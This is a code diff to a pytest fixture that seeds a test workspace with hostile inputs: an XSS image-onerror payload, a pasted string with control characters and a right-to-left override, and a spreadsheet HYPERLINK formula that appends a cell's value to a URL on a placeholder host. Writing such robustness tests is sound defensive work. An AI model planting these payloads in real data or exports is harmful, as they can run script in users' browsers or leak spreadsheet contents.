@@ -18,6 +18,10 @@ from journeykit.widgets.lean import shared_parts
 ROOT = Path(__file__).resolve().parents[1]
 ARTIFACTS = ROOT / "artifacts"
 HOSTILE = "<img src=x onerror=alert(1)>"
+PASTED = "Pasted\x0bname\x1b[31m\u202eevil"
+"""A name pasted from a word processor and a terminal: a soft return, an escape sequence and a
+right-to-left override (the dashboard's kernel died on every load with one of them)."""
+FORMULA = '=HYPERLINK("http://example.invalid/?"&A2,"Click")'
 
 
 @pytest.fixture(autouse=True)
@@ -75,11 +79,34 @@ def sample_store_path(tmp_path_factory: pytest.TempPathFactory) -> Path:
     path = tmp_path_factory.mktemp("sample") / "sample.db"
     with Store(path) as opened:
         create_sample(opened)
+        stages = stages_of("five-stage")
         opened.create_team(
             Workspace(
                 id="hostile",
                 name=f"Team {HOSTILE}",
-                personas=[Persona(id="evil", name=HOSTILE, quote=HOSTILE)],
+                personas=[
+                    Persona(id="evil", name=HOSTILE, quote=HOSTILE),
+                    Persona(id="pasted", name=PASTED),
+                ],
+                touchpoints=[Touchpoint(id="formula", name=FORMULA, channel=HOSTILE, digital=True)],
+                journeys=[
+                    Journey(
+                        id="j",
+                        name=HOSTILE,
+                        personas=["evil", "pasted"],
+                        template="five-stage",
+                        stages=stages,
+                        steps=[
+                            Step(
+                                id="s",
+                                stage=stages[0].id,
+                                touchpoints=["formula"],
+                                action=PASTED,
+                                pain_points=[HOSTILE, FORMULA],
+                            )
+                        ],
+                    )
+                ],
             )
         )
     return path
